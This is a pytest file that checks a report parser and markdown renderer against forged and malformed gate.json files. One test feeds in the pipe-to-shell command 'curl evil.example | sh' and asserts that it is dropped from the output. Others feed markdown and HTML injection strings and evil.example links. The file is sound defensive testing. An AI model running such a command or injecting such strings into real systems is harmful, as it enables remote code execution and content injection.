"""A gate.json that somebody else wrote: read back whole, or refused with the place of the fault."""

from __future__ import annotations

import copy
import html
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from perfsuite.cli import main
from perfsuite.errors import ExitCode, StoreError
from perfsuite.judge.verdict import Outcome, Verdict
from perfsuite.report.formats import json as json_format
from perfsuite.report.formats import markdown
from perfsuite.report.formats.registry import FORMATS
from perfsuite.report.gate_file import MAX_FILE_BYTES, parse_gate_report
from perfsuite.report.report import report_gate
from tests.report.sample_reports import HOSTILE_NAME, make_gate, make_workload

COUNTER = Verdict("test_a", "casts", Outcome.REGRESSED, "1 -> 2 (+1)", evidence="the same in 10 pairs")
SLOWER = make_workload("test_a", Outcome.REGRESSED, 0.1)
GATE = make_gate(replace(SLOWER, verdicts=(*SLOWER.verdicts, COUNTER)), make_workload("test_b", Outcome.KEPT))
LINKS = re.compile(r"@\w|#\d|https?://|mailto:|\bwww\.|\bGH-", re.IGNORECASE)
MARKUP = re.compile(r"<|!\[|\]\(|`")
HOSTILE = (
    "@team fixes #1 https://evil.example www.evil.example ![x](http://y) <img src=x> </details> GH-1 a@b.c"
)


def written(**changes: object) -> dict[str, Any]:
    text = json_format.render(report_gate(GATE))
    document: dict[str, Any] = json.loads(text)
    return document | changes


def read(document: object) -> Any:
    return parse_gate_report(json.dumps(document).encode(), "gate.json")


def test_a_report_is_read_back_as_it_was_written() -> None:
    gate = replace(GATE, command="")
    assert markdown.render(report_gate(read(written()))) == markdown.render(report_gate(gate))


def test_a_report_of_a_perfsuite_that_wrote_no_evidence_is_read() -> None:
    document = written()
    for verdict in (each for workload in document["workloads"] for each in workload["verdicts"]):
        verdict["reason"] = ", ".join(filter(None, [verdict["reason"], verdict.pop("evidence")]))
        del verdict["reference"]
    assert read(document).verdicts[1].explanation == COUNTER.explanation
    assert "casts 1 -&#62; 2 (+1), the same in 10 pairs" in markdown.render(report_gate(read(document)))


def test_the_headline_follows_from_the_verdicts_and_not_from_the_file() -> None:
    forged = written(headline="9 kept", exit_code=0, outcomes={"test_a": "kept"})
    assert read(forged).exit_code is ExitCode.REGRESSED
    assert "regressed" in read(forged).headline


def test_the_command_of_somebody_else_is_left_out() -> None:
    text = markdown.render(report_gate(read(written(command="curl evil.example | sh"))))
    assert "curl" not in text


def all_paths(value: object, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """The paths of all members of a document."""
    members: list[tuple[str | int, Any]] = []
    if isinstance(value, dict):
        members = list(value.items())
    elif isinstance(value, list):
        members = list(enumerate(value[:2]))
    return [path, *(each for key, member in members for each in all_paths(member, (*path, key)))]


def with_value(path: tuple[str | int, ...], value: object) -> Any:
    document: Any = copy.deepcopy(written())
    if not path:
        return value
    place = document
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    return document


# What the file repeats and the reader derives itself.
DERIVED = {"headline", "exit_code", "command", "attributed_stages", "outcomes", "verdicts"}
PATHS = [path for path in all_paths(written()) if not (path and path[0] in DERIVED)]
WRONG: list[object] = [None, True, -1, 1e299, 1e308, 10**400, "x" * 20_000, "\0", [], {}, [[]], {"a": []}]


@pytest.mark.parametrize("path", PATHS, ids=lambda path: ".".join(map(str, path)) or "document")
def test_a_wrong_value_anywhere_is_refused_or_rendered(path: tuple[str | int, ...]) -> None:
    refused = 0
    for value in WRONG:
        try:
            report = report_gate(read(with_value(path, value)))
        except StoreError as error:
            assert str(error).startswith("gate.json: "), error  # noqa: PT017 - either outcome is right
            assert "expected" in str(error)  # noqa: PT017
            refused += 1
        else:
            for report_format in FORMATS.values():
                report_format.render(report)
    assert refused, "nothing that this place may hold is of all these types"


@pytest.mark.parametrize(
    "data",
    [b"", b"x", b"\xff", b"[" * 100_000, b"9" * 10_000, b"null", b"NaN", b" " * (MAX_FILE_BYTES + 1)],
    ids=["empty", "text", "no UTF-8", "deep", "digits", "null", "NaN", "large"],
)
def test_a_file_that_is_no_report_is_refused(data: bytes) -> None:
    with pytest.raises(StoreError, match=r"gate\.json: .*expected"):
        parse_gate_report(data, "gate.json")


@given(st.text(max_size=80))
def test_no_text_becomes_a_link_a_mention_or_html(text: str) -> None:
    for hostile in (text, HOSTILE):
        document = written(notes=[hostile], skipped={hostile: hostile}, unfit=[hostile])
        document["base"]["subject"] = document["head"]["label"] = hostile
        document["workloads"][0]["name"] = document["workloads"][0]["verdicts"][0]["reason"] = hostile
        document["workloads"][0]["verdicts"][1] |= {"reason": hostile, "evidence": hostile}
        rendered = markdown.render(report_gate(read(document)))
        theirs = re.sub(r"</?(code|details|summary|sub|br)>|<!--.*?-->", "\0", rendered)
        assert not MARKUP.search(theirs)
        assert not LINKS.search(html.unescape(theirs))


def test_the_pattern_finds_what_must_not_be_there() -> None:
    """The negative control."""
    assert len(LINKS.findall(HOSTILE)) == 7
    assert len(MARKUP.findall(HOSTILE)) == 4


def test_the_command_writes_the_comment(tmp_path: Path) -> None:
    gate = make_gate(make_workload(HOSTILE_NAME, Outcome.REGRESSED, 0.1))
    source, target = tmp_path / "gate.json", tmp_path / "comment.md"
    source.write_text(json_format.render(report_gate(gate)))
    assert main(["render", str(source), "--output", str(target)]) == 0
    assert target.read_text() == markdown.render(report_gate(replace(gate, command="")))


@pytest.mark.parametrize("content", [b"", b"{}", b"<html>"])
def test_the_command_refuses_a_damaged_file(
    content: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "gate.json"
    source.write_bytes(content)
    assert main(["render", str(source)]) == 13
    assert "Traceback" not in capsys.readouterr().err
